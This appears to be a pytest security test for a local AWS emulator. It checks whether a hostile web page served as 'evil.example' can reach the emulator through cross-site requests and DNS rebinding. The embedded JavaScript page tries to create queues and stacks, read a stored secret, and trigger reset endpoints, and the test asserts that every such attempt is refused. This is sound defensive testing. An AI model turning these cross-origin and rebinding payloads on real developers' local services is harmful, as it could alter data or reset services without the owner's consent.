"""A page of another origin, in a real browser, gets nothing from a running emulator."""

import contextlib
import json
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlencode

import pytest

from sqswarm.infra.local import is_healthy

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")

pytestmark = [pytest.mark.localstack, pytest.mark.proof]

PAGE = """<!doctype html><meta name=referrer content=no-referrer><body><script>
const at = AT, queue = n => at + "/?Version=2012-11-05&Action=CreateQueue&QueueName=" + n;
const seen = {}, made = [];
const late = () => new Promise((_, reject) => setTimeout(reject, 10000, "no answer"));
const once = (name, work) => made.push(
    Promise.race([work(), late()]).then(v => seen[name] = v, e => seen[name] = "refused: " + e));
const element = (tag, settings) => new Promise((resolve, reject) => {
    const one = Object.assign(document.createElement(tag), settings);
    one.onload = () => resolve("loaded"); one.onerror = () => reject("error");
    document.body.append(one);
});
const form = (name, action, fields) => once(name, () => new Promise(resolve => {
    const frame = Object.assign(document.createElement("iframe"), {name});
    document.body.append(frame);
    const one = document.body.appendChild(document.createElement("form"));
    Object.assign(one, {method: "post", action, target: name});
    for (const [key, value] of Object.entries(fields))
        one.append(Object.assign(document.createElement("input"), {name: key, value}));
    frame.onload = () => resolve("sent");
    one.submit();
}));
once("image", () => element("img", {src: queue("image"), referrerPolicy: "no-referrer"}));
once("stack", () => element("img", {src: at + "/?" + STACK, referrerPolicy: "no-referrer"}));
once("script", () => element("script", {src: queue("script"), referrerPolicy: "no-referrer"}));
once("style", () => element("link", {rel: "stylesheet", href: queue("style")}));
once("frame", () => element("iframe", {src: queue("frame")}));
for (const path of ["/", "/_localstack/health", "/_ministack/health", "/kept/secret"]) {
    once("read " + path, () => fetch(at + path).then(answer => answer.text()));
    once("image of " + path, () => element("img", {src: at + path}));
    once("no-cors " + path, () => fetch(at + path, {mode: "no-cors"}).then(a => a.type));
}
once("simple", () => fetch(queue("simple"), {method: "POST", mode: "no-cors"}).then(a => a.type));
once("target", () => fetch(at + "/", {method: "POST", body: "{}",
    headers: {"X-Amz-Target": "DynamoDB_20120810.ListTables"}}).then(answer => answer.text()));
for (const path of ["/_localstack/state/reset", "/_ministack/reset", "/_localstack/health"])
    once("post " + path, () => fetch(at + path, {method: "POST", mode: "no-cors",
        headers: {"Content-Type": "text/plain"}, body: '{"action": "kill"}'}).then(a => a.type));
once("beacon", async () => navigator.sendBeacon(queue("beacon")));
once("socket", () => new Promise((resolve, reject) => {
    const one = new WebSocket(at.replace("http", "ws") + "/");
    one.onopen = () => resolve("open"); one.onerror = () => reject("error");
}));
form("form", at + "/", {Action: "CreateQueue", QueueName: "form", Version: "2012-11-05"});
form("resetting", at + "/_localstack/state/reset", {});
form("resetting-ministack", at + "/_ministack/reset", {});
Promise.all(made).then(() => fetch("/seen", {method: "POST", body: JSON.stringify(seen)}));
</script>"""

STACK = urlencode(
    {
        "Action": "CreateStack",
        "Version": "2010-05-15",
        "StackName": "mine",
        "TemplateBody": json.dumps({"Resources": {"Topic": {"Type": "AWS::SNS::Topic"}}}),
    }
)


@pytest.fixture(scope="module")
def browse(tmp_path_factory):
    """Open an address in a real browser, for which `evil.example` leads to this machine."""
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        pytest.skip(f"there is no browser here: none of {', '.join(BROWSERS)}")

    @contextlib.contextmanager
    def open_page(address, *options):
        command = [
            found,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--host-resolver-rules=MAP evil.example 127.0.0.1",
            f"--user-data-dir={tmp_path_factory.mktemp('browser')}",
            *options,
            address,
        ]
        browser = subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
        )
        try:
            yield browser
        finally:
            browser.kill()
            browser.communicate()

    return open_page


@pytest.fixture
def kept(cloud):
    """What is there before, and how to see all that is there."""
    cloud.s3.create_bucket(Bucket="kept")
    cloud.s3.put_object(Bucket="kept", Key="secret", Body=b"for the owner", ContentType="text/html")

    def everything():
        return {
            "queues": cloud.sqs.list_queues().get("QueueUrls", []),
            "topics": cloud.sns.list_topics()["Topics"],
            "stacks": [s["StackName"] for s in cloud.cloudformation.describe_stacks()["Stacks"]],
            "objects": [o["Key"] for o in cloud.s3.list_objects_v2(Bucket="kept")["Contents"]],
        }

    return everything


def attack(browse, page, host):
    """Serve the page at `host`, have the browser open it, and return what the page saw."""
    seen, told = {}, threading.Event()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self):
            seen.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            told.set()

        def log_message(self, *arguments):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        with browse(f"http://{host}:{server.server_port}/", "--remote-debugging-port=0"):
            assert told.wait(60), "the page did not come to its end"
        server.shutdown()
    return seen


@pytest.mark.parametrize("host", ["evil.example", "localhost"])
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_of_another_origin_gets_nothing(browse, emulator, kept, host, name):
    """Of another site (evil.example), or of this machine's another port (localhost)."""
    before = kept()
    at = json.dumps(f"http://{name}:{emulator.port}")
    page = PAGE.replace("AT", at, 1).replace("STACK", json.dumps(STACK))
    seen = attack(browse, page, host)
    assert kept() == before
    assert is_healthy(emulator)
    assert len(seen) > 20
    for what, value in seen.items():
        if what.startswith(("read ", "target", "socket", "image", "stack", "script", "style")):
            assert value.startswith("refused"), f"{what}: {value}"


def test_a_host_name_that_was_rebound_to_this_machine_reads_nothing(browse, emulator, kept):
    for path in ("/_localstack/health", "/_ministack/health", "/kept/secret", "/?" + STACK):
        before = kept()
        address = f"http://evil.example:{emulator.port}{path}"
        with browse(address, "--dump-dom", "--timeout=10000") as browser:
            said = browser.communicate(timeout=60)[0]
        assert "is not this machine" in said
        assert "for the owner" not in said
        assert kept() == before


def test_the_browser_itself_is_no_excuse(browse, emulator):
    """What is typed into the address line is answered: the refusals above are not the browser's."""
    address = f"{emulator.endpoint_url}/_{emulator.kind}/health"
    with browse(address, "--dump-dom", "--timeout=10000") as browser:
        assert "services" in browser.communicate(timeout=60)[0]
